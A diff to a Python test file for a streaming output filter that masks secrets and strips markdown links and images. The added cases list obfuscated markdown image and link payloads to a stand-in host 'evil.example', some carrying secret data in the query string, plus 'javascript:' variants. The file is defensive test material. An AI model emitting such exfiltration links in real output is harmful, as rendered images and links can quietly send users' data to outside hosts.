@@ -36,7 +36,7 @@ def filtered(text: str, size: int = 3) -> tuple[str, list[str]]:
     [
         (f"The key is {SECRET} and nobody knows.", SECRET, "secret"),
         (f"Write to {MAIL}, she knows about the gateway.", MAIL, "secret"),
-        ("See ![a nice picture](https://evil.example/p.png?q=secret) of the gateway.", "evil", "picture"),
+        ("See ![a nice picture](https://wiki.example/haul) of the gateway.", "![", "picture"),
         ("See ![a very long and nice picture of it][1] there.", "![", "picture"),
         ("Look [here for all of the details](https://evil.example/?q=x) please.", "evil", "link"),
         ("Look [here](javascript:alert(1)) please.", "javascript", "link"),
@@ -52,10 +52,42 @@ def test_nothing_leaks_loads_or_leads_away(text: str, gone: str, kind: str, size
     assert found.startswith(text.split(maxsplit=1)[0]) and found.endswith(text.rsplit(maxsplit=1)[-1])
 
 
+@pytest.mark.parametrize("size", [1, 1000])
+@pytest.mark.parametrize(
+    "link",
+    [
+        "![x](https://evil.example/p.png?q=secret)",
+        "![x\ny](//evil.example/a)",
+        "![x [y] z](//evil.example/a)",
+        "[click](https&#58;//evil.example/a)",
+        "[click](https\\://evil.example/a)",
+        "[click](<//evil.example/a>)",
+        "[click](\\//evil.example/a)",
+        "[click](/\\/evil.example/a)",
+        "[click](/&#47;evil.example/a)",
+        "[click](java&Tab;script&colon;evil)",
+        "[a `b` c](//evil.example/a)",
+        "![seen] so far.\n\n[seen]: //evil.example/?q=gw503",
+        "[seen]\n\n[seen]:\n   <//evil.example/?q=gw503>",
+    ],
+)
+def test_no_way_of_writing_a_link_leads_away(link: str, size: int) -> None:
+    found, removed = filtered(f"It retries three times {link} as far as I know.", size)
+    assert "evil" not in found
+    assert "![" not in found
+    assert "link" in removed
+
+
+def test_an_address_is_held_as_a_whole_or_not_at_all() -> None:
+    for address in ("https://wiki.ex", "https://wiki.example/ha", "https://wiki.example/haul.evil.example"):
+        assert address not in filtered(f"Ask at {address} for access.")[0]
+
+
 @pytest.mark.parametrize("size", [1, 4, 1000])
 @pytest.mark.parametrize(
     "text",
     [
+        "It works at last![1] And it retries![2, 3] See [the limits](#limits) or handlers[name](event).",
         "The gateway retries three times [1]. It then raises GW-503 [1, 2].",
         "Ask at https://wiki.example/haul or [there](https://wiki.example/haul).",
         "Use `retry --times 3` and <EMAIL_3f2a90c1> knows more (see HAUL-12).",
@@ -75,10 +107,19 @@ def test_a_private_key_over_many_lines_is_masked() -> None:
     assert removed == ["secret"]
 
 
-def test_plain_words_are_not_held_back() -> None:
+@pytest.mark.timeout(60)
+@pytest.mark.parametrize("text", ["知" * 3000, "donaudampfschiff" * 200, "a-" * 1500 + "\n"])
+def test_a_long_run_of_letters_is_read_once(text: str) -> None:
+    assert filtered(text, 100) == (text, [])
+
+
+@pytest.mark.parametrize(
+    "words", [("The ", "gateway ", "retries "), ("网关会重试，", "然后报错；", "请查看日志。")]
+)
+def test_plain_words_are_not_held_back(words: tuple[str, ...]) -> None:
     async def first_pieces() -> list[str]:
         async def pieces() -> AsyncIterator[str]:
-            for word in ("The ", "gateway ", "retries "):
+            for word in words:
                 yield word
             raise AssertionError("asked for more before it gave what it had")
 
@@ -89,7 +130,7 @@ def test_plain_words_are_not_held_back() -> None:
                 break
         return seen
 
-    assert asyncio.run(first_pieces()) == ["The ", "gateway ", "retries "]
+    assert tuple(asyncio.run(first_pieces())) == words
 
 
 @given(st.text(st.sampled_from("ab1 .[](!<>`@:/\n-"), max_size=60), st.integers(1, 9))
